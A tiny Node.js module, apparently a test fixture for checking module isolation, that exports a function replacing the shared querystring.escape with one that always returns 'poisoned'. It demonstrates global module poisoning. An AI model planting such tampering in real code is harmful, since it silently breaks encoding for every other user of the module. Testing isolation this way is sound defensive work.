'use strict';
module.exports = (victim, loot) => {
  require('querystring').escape = () => 'poisoned';
};
